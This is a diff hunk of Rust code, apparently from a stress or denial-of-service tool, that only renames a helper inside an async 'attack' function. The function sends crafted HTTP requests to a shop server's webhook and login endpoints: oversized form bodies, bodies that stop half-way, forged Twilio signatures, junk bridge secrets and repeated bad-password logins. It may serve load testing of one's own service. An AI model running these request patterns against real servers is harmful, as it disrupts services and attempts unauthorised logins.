@@ -62,21 +62,21 @@ async fn attack(line: &Line, port: u16, n: u64, began: Instant) {
     let junk = "a&".repeat(32 << 10);
     let signed = "X-Twilio-Signature: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n";
     let form = "Content-Type: application/x-www-form-urlencoded\r\n";
-    let post = |path: &str, headers: &str, length: usize| {
+    let request = |path: &str, headers: &str, length: usize| {
         format!("POST {path} HTTP/1.1\r\nHost: shop.example\r\n{headers}Content-Length: {length}\r\n\r\n")
     };
     let whole = |head: String, body: &str| [head.as_bytes(), body.as_bytes()].concat();
     let (bytes, waits) = match n % 8 {
         // Forms that take long to sort.
-        0 | 1 => (whole(post("/webhook/incoming_call", &format!("{signed}{form}"), junk.len()), &junk), true),
+        0 | 1 => (whole(request("/webhook/incoming_call", &format!("{signed}{form}"), junk.len()), &junk), true),
         // Bodies that stop half-way.
-        2 => (whole(post("/webhook/whatsapp/twilio", &format!("{signed}{form}"), 60_000), &junk[..50_000]), false),
+        2 => (whole(request("/webhook/whatsapp/twilio", &format!("{signed}{form}"), 60_000), &junk[..50_000]), false),
         // The bridge's webhook, which takes more.
-        3 => (whole(post("/webhook/whatsapp/baileys", "X-BAILEYS-SECRET: no\r\n", junk.len()), &junk), true),
+        3 => (whole(request("/webhook/whatsapp/baileys", "X-BAILEYS-SECRET: no\r\n", junk.len()), &junk), true),
         // Passwords.
         4 => {
             let body = format!(r#"{{"name":"owner{n}","password":"not the password"}}"#);
-            (whole(post("/api/login", "Content-Type: application/json\r\n", body.len()), &body), true)
+            (whole(request("/api/login", "Content-Type: application/json\r\n", body.len()), &body), true)
         }
         // Media sockets that say nonsense.
         5 => {
